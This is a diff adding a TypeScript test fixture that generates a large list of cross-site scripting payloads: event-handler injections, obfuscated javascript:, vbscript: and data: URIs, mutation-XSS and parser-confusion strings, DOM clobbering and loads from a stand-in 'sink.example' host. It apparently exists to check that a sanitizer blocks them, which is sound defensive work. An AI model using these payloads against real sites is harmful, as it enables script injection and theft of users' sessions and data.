@@ -1,0 +1,115 @@
+// Every payload says that it ran by calling `ran()`, or fetches something from the sink host.
+const SINK = 'https://sink.example'
+const RUN = 'top.ran()'
+
+const tags = [
+  'img',
+  'svg',
+  'video',
+  'audio',
+  'details',
+  'body',
+  'input',
+  'marquee',
+  'div',
+  'a',
+  'p',
+  'iframe',
+  'object',
+  'math',
+]
+const handlers = [
+  'onerror',
+  'onload',
+  'onclick',
+  'onmouseover',
+  'onfocus',
+  'ontoggle',
+  'onanimationstart',
+  'onpointerenter',
+]
+
+const withHandlers = tags.flatMap((tag) =>
+  handlers.map((handler) => `<${tag} src=x ${handler}="${RUN}" tabindex=0 autofocus open>x</${tag}>`),
+)
+
+const schemes = [
+  `javascript:${RUN}`,
+  `JaVaScRiPt:${RUN}`,
+  ` javascript:${RUN}`,
+  `java\tscript:${RUN}`,
+  `java\nscript:${RUN}`,
+  `&#106;avascript:${RUN}`,
+  `&#x6A;avascript&colon;${RUN}`,
+  `vbscript:${RUN}`,
+  `data:text/html,<script>${RUN}</script>`,
+  `data:text/html;base64,PHNjcmlwdD50b3AucmFuKCk8L3NjcmlwdD4=`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
+  `blob:${SINK}/x`,
+  `filesystem:${SINK}/x`,
+  `//sink.example/x`,
+  `\\\\sink.example/x`,
+  `${SINK}/x`,
+]
+const withSchemes = schemes.flatMap((address) => [
+  `<img src="${address}">`,
+  `<video src="${address}" autoplay></video>`,
+  `<iframe src="${address}"></iframe>`,
+  `![x](${address})`,
+])
+const links = schemes.slice(0, 11).flatMap((address) => [`<a href="${address}">x</a>`, `[x](${address})`])
+
+const others = [
+  `<script>${RUN}</script>`,
+  `<script src="${SINK}/x.js"></script>`,
+  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
+  `<SCRIPT/x>${RUN}</SCRIPT>`,
+  `<svg><script>${RUN}</script></svg>`,
+  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"></use></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}></style></mglyph></form>`,
+  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
+  `<textarea><img src=x onerror=${RUN}></textarea>`,
+  `<style><img src=x onerror=${RUN}></style>`,
+  `<style>@import '${SINK}/x.css';</style>`,
+  `<link rel=stylesheet href="${SINK}/x.css">`,
+  `<link rel=preload as=image href="${SINK}/x.png">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
+  `<base href="${SINK}/">`,
+  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
+  `<embed src="javascript:${RUN}">`,
+  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
+  `<form action="javascript:${RUN}"><button>x</button></form>`,
+  `<button formaction="javascript:${RUN}">x</button>`,
+  `<input type=image src="${SINK}/x.png" onerror="${RUN}">`,
+  `<div style="background:url(${SINK}/x.png)">x</div>`,
+  `<table background="${SINK}/x.png"><tr><td>x</td></tr></table>`,
+  `<img srcset="${SINK}/x.png 1x">`,
+  `<picture><source srcset="${SINK}/x.png"><img></picture>`,
+  `<video poster="${SINK}/x.png"></video>`,
+  `<audio><source src="${SINK}/x.mp3"></audio>`,
+  `<template><img src=x onerror=${RUN}></template>`,
+  `<slot><img src=x onerror=${RUN}></slot>`,
+  `<!--><img src=x onerror=${RUN}>-->`,
+  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
+  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
+  `"><img src=x onerror=${RUN}>`,
+  `'><svg/onload=${RUN}>`,
+  `</div></div><img src=x onerror=${RUN}>`,
+  `\`<img src=x onerror=${RUN}>`,
+  '```\n</code></pre><img src=x onerror=top.ran()>\n```',
+  `[x](<javascript:${RUN}>)`,
+  `[x]: javascript:${RUN}\n\n[x]`,
+  `![a"onerror="${RUN}](x)`,
+  `<a href="x" onclick="${RUN}">x</a>`,
+  `<x onclick="${RUN}" contenteditable>x</x>`,
+  `<img src="x\u0000" onerror="${RUN}">`,
+  `<img/src/onerror=${RUN}>`,
+  `<img src=x oneonerrorrror="${RUN}">`,
+  `<a id=ran name=ran>x</a>`,
+  `<img name=getElementById src=x>`,
+  `<isindex type=image src=x onerror=${RUN}>`,
+]
+
+export const htmlPayloads: readonly string[] = [...withHandlers, ...withSchemes, ...links, ...others]
